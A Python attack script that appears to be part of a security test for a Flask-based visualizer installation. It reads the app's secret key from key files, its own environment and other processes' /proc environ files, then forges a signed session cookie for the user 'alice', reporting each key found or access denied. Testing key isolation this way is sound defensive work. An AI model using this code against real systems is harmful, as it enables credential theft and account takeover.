"""Attack: read the installation's secret key and sign a Flask session cookie for alice.

Looks where the key lives (instance/secret_key, the instance folder named in the
environment, the servers' /proc/<pid>/environ) and prints what it got: "KEY <where>"
with the key, "DENIED <where>" with the error, "FORGED <cookie>" for each cookie it signed.
"""
import json
import os

KNOWN = json.loads("__KNOWN__")
KEY_VARIABLE = "VISUALIZER_SECRET_KEY="


def key_files():
    folders = [KNOWN["instance_dir"], os.environ.get("VISUALIZER_INSTANCE")]
    return [os.path.join(folder, "secret_key") for folder in folders if folder]


def server_pids():
    """The given server pids and every process of this installation found in /proc."""
    pids = [KNOWN["flask_pid"]] + KNOWN["bokeh_pids"]
    port = ("VISUALIZER_PORT=%d" % KNOWN["flask_port"]).encode()
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            try:
                with open("/proc/%s/environ" % name, "rb") as f:
                    if port in f.read().split(b"\0"):
                        pids.append(int(name))
            except OSError:
                pass
    return sorted(set(pids))


def keys():
    found = {}
    for path in key_files():
        try:
            with open(path) as f:
                found[path] = f.read().strip()
        except OSError as error:
            print("DENIED", path, repr(error), flush=True)
    if os.environ.get(KEY_VARIABLE[:-1]):
        found["own environment"] = os.environ[KEY_VARIABLE[:-1]]
    for pid in server_pids():
        where = "/proc/%d/environ" % pid
        try:
            with open(where, "rb") as f:
                entries = f.read().decode(errors="replace").split("\0")
        except OSError as error:
            print("DENIED", where, repr(error), flush=True)
            continue
        for entry in entries:
            if entry.startswith(KEY_VARIABLE):
                found[where] = entry[len(KEY_VARIABLE):]
    return found


def forge(key):
    from flask import Flask
    from flask.sessions import SecureCookieSessionInterface

    app = Flask("forger")
    app.secret_key = key
    serializer = SecureCookieSessionInterface().get_signing_serializer(app)
    return serializer.dumps({"_user_id": str(KNOWN["alice_id"]), "_fresh": True})


for where, key in keys().items():
    print("KEY", where, key, flush=True)
    print("FORGED", forge(key), flush=True)
print("ATTACK-END", flush=True)
